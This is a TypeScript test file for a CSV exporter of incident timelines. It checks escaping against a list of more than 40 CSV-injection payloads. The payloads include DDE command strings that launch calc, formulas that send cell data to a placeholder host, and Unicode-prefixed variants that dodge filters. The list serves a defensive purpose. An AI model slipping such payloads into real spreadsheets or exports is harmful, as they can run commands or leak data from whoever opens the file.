import { parse } from "csv-parse/sync";
import { expect, test } from "vitest";
import type { Incident } from "../incidents/incident.ts";
import { exampleIncident, exampleResults } from "./__fixtures__/example-results.ts";
import { csv } from "./csv.ts";
import { csvCell } from "./text/csv-cell.ts";

const VIEW = { width: 80, colour: false };

function rowsOf(incidents: readonly Incident[]): readonly Readonly<Record<string, string>>[] {
  return parse(csv.render(exampleResults(incidents), VIEW), { columns: true, relax_column_count: false });
}

test("a timeline becomes rows that a parser reads back", async () => {
  await expect(csv.render(exampleResults(), VIEW)).toMatchFileSnapshot("__golden__/incident.csv");
  const rows = rowsOf([exampleIncident]);
  expect(rows).toHaveLength(exampleIncident.timeline.length);
  expect(rows[3]).toMatchObject({
    incident_id: exampleIncident.id,
    operation: "CreateAccessKey",
    evidence: "created_credential",
    raw_offset: "3000",
  });
});

test("no incident leaves the header, and an incident without a timeline keeps a row", () => {
  expect(csv.render(exampleResults([]), VIEW).trimEnd().split("\n")).toHaveLength(1);
  expect(rowsOf([{ ...exampleIncident, timeline: [] }])).toMatchObject([{ incident_id: exampleIncident.id, time: "", operation: "" }]);
});

/** Ways to begin a formula, as published for CSV injection, and ways around simple filters. */
const PAYLOADS: readonly string[] = [
  ..."=+-@\t\r\n\0".split("").map((first) => `${first}1+1`),
  ..."＝＋－＠".split("").map((first) => `${first}SUM(1)`),
  ..."﹦﹢﹣﹫⁼⁺₌₊−".split("").map((first) => `${first}SUM(1)`),
  `=cmd|'/C calc'!A0`,
  `=HYPERLINK("http://example.com?x="&A1,"click")`,
  `=WEBSERVICE("http://example.com/")`,
  `=IMPORTXML(CONCAT("http://example.com/",A1),"//a")`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!D2`,
  `+1-1;=1`,
  `   =1+1`,
  `\u00a0=1+1`,
  `\u3000=1+1`,
  `\ufeff=1+1`,
  `\u200b=1+1`,
  `\u202e=1+1`,
  `\u00ad@A1`,
  `"=1+1`,
  `'=1+1`,
  `" ' =1+1`,
  `\t\t=1+1`,
  `\r\n=1+1`,
  `\u2028-1`,
  `=1+1","=2+2`,
  `=1+1"\n"=2+2`,
];

test("of 40 and more hostile payloads none begins a formula, ends a cell or a row", () => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(40);
  for (const payload of PAYLOADS) {
    const rows = rowsOf([{ ...exampleIncident, title: payload, timeline: exampleIncident.timeline.slice(0, 2) }]);
    expect(rows).toHaveLength(2);
    expect(rows[0]?.["title"], JSON.stringify(payload)).toMatch(/^'/);
    expect(rows[0]?.["title"]).not.toMatch(/[\r\n]/);
  }
});

test("ordinary text and our own numbers stay as they are", () => {
  expect(csvCell("arn:aws:lambda:eu-west-1:1:function:größe")).toBe('"arn:aws:lambda:eu-west-1:1:function:größe"');
  expect(csvCell(-5)).toBe('"-5"');
  expect(csvCell(undefined)).toBe('""');
  expect(csvCell("x".repeat(100_000)).length).toBeLessThan(32_767);
});
